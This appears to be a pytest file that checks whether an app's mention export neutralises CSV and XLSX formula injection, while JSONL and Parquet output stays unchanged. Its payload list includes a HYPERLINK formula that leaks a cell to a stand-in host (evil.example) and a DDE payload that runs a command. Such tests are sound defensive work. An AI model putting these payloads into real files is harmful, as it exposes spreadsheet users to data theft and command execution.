"""OWASP "CSV injection": mention text never runs as a formula in a client's spreadsheet.

Texts are written by strangers; a spreadsheet runs a cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return. CSV and XLSX exports (the mention
export and the dashboard cards' data) prefix such cells with ``'``; JSON Lines and
Parquet keep the data exactly. Each file is read back with a real reader.
"""

from __future__ import annotations

import csv
import json

import pytest

from engage_desktop.inbox.mention_export import export_mentions, neutralize
from engage_desktop.inbox.mention_import import import_mentions
from tests.conftest import new_workspace

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
)


@pytest.fixture
def ws(tmp_path):
    path = tmp_path / "w.engage"
    source = tmp_path / "hostile.jsonl"
    rows = [
        {"id": f"h{i}", "text": text, "author": f"=cmd{i}", "title": "@title", "tags": ["-x"]}
        for i, text in enumerate(PAYLOADS)
    ]
    rows.append({"id": "plain", "text": "A normal post - with a dash inside", "author": "ann"})
    source.write_text("\n".join(json.dumps(r) for r in rows), encoding="utf-8")
    with new_workspace(path) as workspace:
        import_mentions(workspace, source, enrich=False)
        with workspace.write() as cur:
            cur.execute("UPDATE mentions SET sentiment = -0.5")  # a negative number stays one
        yield workspace


def _dangerous(value: object) -> bool:
    return isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_cells_are_neutralised(ws, tmp_path):
    out = tmp_path / "m.csv"
    assert export_mentions(ws, out) == len(PAYLOADS) + 1
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    cells = [v for r in rows for k, v in r.items() if k != "sentiment"]
    assert not any(_dangerous(c) for c in cells)
    texts = {r["external_id"]: r["text"] for r in rows}
    for i, payload in enumerate(PAYLOADS):
        assert texts[f"h{i}"] == "'" + payload
    assert texts["plain"] == "A normal post - with a dash inside"
    assert {r["author"] for r in rows} >= {"'=cmd0", "ann"}
    assert all(r["title"] in ("'@title", "") for r in rows)
    assert all(r["sentiment"] == "-0.5" for r in rows)  # numbers stay numbers


def test_xlsx_cells_are_neutralised_and_never_formulas(ws, tmp_path):
    import openpyxl

    out = tmp_path / "m.xlsx"
    assert export_mentions(ws, out) == len(PAYLOADS) + 1
    book = openpyxl.load_workbook(out)  # not read-only: cell types are visible
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)  # no formula anywhere
    values = [c.value for c in cells if header[c.column - 1] != "sentiment"]
    assert not any(_dangerous(v) for v in values)
    texts = {
        row[header.index("external_id")].value: row[header.index("text")].value
        for row in sheet.iter_rows(min_row=2)
    }
    for i, payload in enumerate(PAYLOADS):
        # XML normalises a carriage return to a line feed; the cell is still inert.
        assert texts[f"h{i}"] == "'" + payload.replace("\r", "\n")
    assert {c.value for c in cells if header[c.column - 1] == "sentiment"} == {-0.5}
    book.close()


def test_jsonl_and_parquet_keep_the_data_as_is(ws, tmp_path):
    import pyarrow.parquet as pq

    jsonl = tmp_path / "m.jsonl"
    parquet = tmp_path / "m.parquet"
    export_mentions(ws, jsonl)
    export_mentions(ws, parquet)
    from_json = {
        r["external_id"]: r["text"]
        for r in map(json.loads, jsonl.read_text(encoding="utf-8").splitlines())
    }
    from_parquet = {r["external_id"]: r["text"] for r in pq.read_table(parquet).to_pylist()}
    for i, payload in enumerate(PAYLOADS):
        assert from_json[f"h{i}"] == payload == from_parquet[f"h{i}"]


def test_neutralize_is_only_for_text():
    assert neutralize("=1") == "'=1" and neutralize("fine = ok") == "fine = ok"
    assert neutralize(-1.5) == -1.5 and neutralize(None) is None
